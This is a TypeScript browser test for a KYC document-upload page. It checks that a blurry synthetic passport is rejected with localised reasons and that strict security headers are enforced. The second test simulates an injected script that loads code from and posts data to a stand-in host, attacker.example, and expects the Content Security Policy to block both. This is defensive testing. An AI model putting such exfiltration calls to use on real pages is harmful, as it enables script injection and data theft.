/**
 * The reference upload page against the REAL local runtime (not the fake API): the page is
 * served by `kyc local`'s HTTP API, gets its token from the local token route, uploads straight
 * to the local S3 through the presigned POSTs, and shows what the pipeline decided. A blurry
 * passport page is refused by the on-upload quality gate with PHOTO_TOO_BLURRY; the page shows
 * the catalog's message and tip, in Chinese after the switch; the stored records agree.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeReason } from '../../lambdas/domain/reason-catalog/index.ts';
import { demoPerson } from '../../local/demo/sample-images.ts';
import { syntheticSampleImages } from '../../local/demo/synthetic-images.ts';
import { startE2eRuntime, type E2eRuntime } from '../e2e/support/local-runtime.ts';
import { chromiumAvailable, launchBrowser, type TestBrowser } from './harness/browser.ts';
import { UploadPage } from './harness/upload-page.ts';

describe.skipIf(!chromiumAvailable())('reference upload page in Chromium against the local runtime', () => {
  let e2e: E2eRuntime;
  let browser: TestBrowser;
  const files = mkdtempSync(join(tmpdir(), 'kyc-page-files-'));

  beforeAll(async () => {
    // Prepare: the runtime, the browser, and a blurry passport page plus a good selfie on disk.
    // Liveness off: this test is about uploads and the quality gate; the camera and liveness
    // steps have their own browser test (camera-liveness.test.ts) with a fake camera.
    e2e = await startE2eRuntime({ config: { features: { liveness: false } } });
    browser = await launchBrowser();
    const images = syntheticSampleImages(demoPerson);
    const person = images.person(1);
    writeFileSync(join(files, 'passport-blurry.jpg'), await images.document(person, { blurry: true }));
    writeFileSync(join(files, 'selfie.jpg'), await images.selfie(person));
  });

  afterAll(async () => {
    await browser?.close();
    await e2e?.stop();
    rmSync(files, { recursive: true, force: true });
  });

  it('uploads through the presigned POSTs and shows the gate refusal in English, then in Chinese', async () => {
    // Prepare
    const person = demoPerson(1);
    const page = new UploadPage(await browser.context.newPage(), e2e.logs);
    await page.open(e2e.runtime.apiUrl);
    await page.submitDetails({
      level: 'basic',
      nationality: 'GBR',
      documentType: 'passport',
      fullName: person.fullName,
      dateOfBirth: person.dateOfBirth,
      address: person.address,
    });
    expect(await page.slots()).toEqual(['document_front', 'selfie']);

    // Act
    await page.chooseFile('document_front', join(files, 'passport-blurry.jpg'));
    await page.chooseFile('selfie', join(files, 'selfie.jpg'));
    await page.upload();
    const status = await page.waitForDecision(120_000);

    // Assess: every slot went up, the pipeline refused the blurry page with its reason
    expect(await page.progress('document_front')).toEqual({ value: 100, label: 'Uploaded (100%)' });
    expect(await page.progress('selfie')).toEqual({ value: 100, label: 'Uploaded (100%)' });
    expect(status).toBe('rejected');
    const shown = await page.reasons();
    expect(shown.map((reason) => reason.code)).toContain('PHOTO_TOO_BLURRY');
    expect(shown).toEqual(shown.map(({ code }) => describeReason(code as never, 'en')));

    // Act: switch the page to Chinese
    await page.switchLanguage('中文');
    const blurryZh = describeReason('PHOTO_TOO_BLURRY', 'zh-CN');
    await page.page.locator('#reasons .reason-message', { hasText: blurryZh.message }).waitFor();

    // Assess: the same reasons in zh-CN, and the stored document record agrees with the page
    expect(await page.reasons()).toEqual(shown.map(({ code }) => describeReason(code as never, 'zh-CN')));
    // This runtime is fresh: its only document records are the ones this page uploaded.
    const stored = await e2e.dynamo.send(new ScanCommand({ TableName: e2e.env.VERIFICATIONS_TABLE }));
    const front = (stored.Items ?? []).find((item) => item.slot === 'document_front');
    expect(front?.result).toBe('rejected');
    expect(front?.reasons).toContain('PHOTO_TOO_BLURRY');
    expect(page.cspViolations).toEqual([]);
  }, 240_000);

  it('serves the page with its strict security headers, and the browser enforces them', async () => {
    // Prepare
    const page = new UploadPage(await browser.context.newPage(), e2e.logs);
    const response = await page.page.goto(`${e2e.runtime.apiUrl}/`);
    const s3Origin = new URL(e2e.runtime.endpoints.s3).origin;

    // Act: what an injected script would try: load code from elsewhere, send data elsewhere
    const attempts = await page.page.evaluate(async () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      const loaded = await new Promise<string>((done) => {
        script.onload = () => done('loaded');
        script.onerror = () => done('blocked');
        document.head.append(script);
      });
      const sent = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      );
      let evaluated = 'blocked';
      try {
        evaluated = String(new Function('return "ran"')());
      } catch {
        // EvalError under script-src 'self'
      }
      return { loaded, sent, evaluated };
    });

    // Assess: the headers, and each attempt refused by the policy (not merely unreachable)
    const headers = response?.headers() ?? {};
    expect(headers['content-security-policy']).toContain("script-src 'self'");
    expect(headers['content-security-policy']).toContain(`connect-src 'self' ${s3Origin}`);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['permissions-policy']).toContain('camera=(self)');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(attempts).toEqual({ loaded: 'blocked', sent: 'blocked', evaluated: 'blocked' });
    expect(page.cspViolations.length).toBeGreaterThanOrEqual(3);
  });
});
